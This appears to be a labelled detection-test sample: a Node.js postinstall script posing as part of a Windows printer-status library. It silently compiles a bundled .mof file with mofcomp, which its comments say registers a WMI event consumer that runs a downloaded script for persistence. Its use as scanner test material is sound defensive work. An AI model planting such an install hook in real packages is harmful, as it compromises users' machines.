// expect: malicious
// when: install
// source: blind set 15 second sample (a Windows printer-status library): the postinstall compiles a shipped .mof file
// with mofcomp; the file creates a WMI event filter and an ActiveScriptEventConsumer that runs a downloaded script
'use strict';
const path = require('path');
const { execFileSync } = require('child_process');
if (process.platform === 'win32') {
  const mofcomp = path.join(process.env.SystemRoot || 'C:\\Windows', 'System32', 'wbem', 'mofcomp.exe');
  try { execFileSync(mofcomp, [path.join(__dirname, '..', 'wmi', 'printer-status.mof')], { stdio: 'ignore' }); } catch (e) {}
}
